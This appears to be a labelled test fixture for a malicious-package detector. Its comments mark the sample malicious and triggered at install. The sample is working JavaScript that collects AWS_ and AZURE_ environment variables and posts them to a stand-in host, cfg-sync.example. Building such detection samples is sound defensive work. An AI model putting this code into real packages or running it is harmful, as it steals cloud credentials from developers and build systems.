// expect: malicious
// when: install
// A loop that keeps the variables of a cloud's credentials by their prefix (`AWS_`) is no public-settings filter: the
// values are the keys, sent at install.
const https = require('https');
const creds = {};
for (const [k, v] of Object.entries(process.env)) {
  if (k.startsWith('AWS_') || k.startsWith('AZURE_')) creds[k] = v;
}
const req = https.request({ host: 'cfg-sync.example', path: '/v1/push', method: 'POST' });
req.end(JSON.stringify(creds));
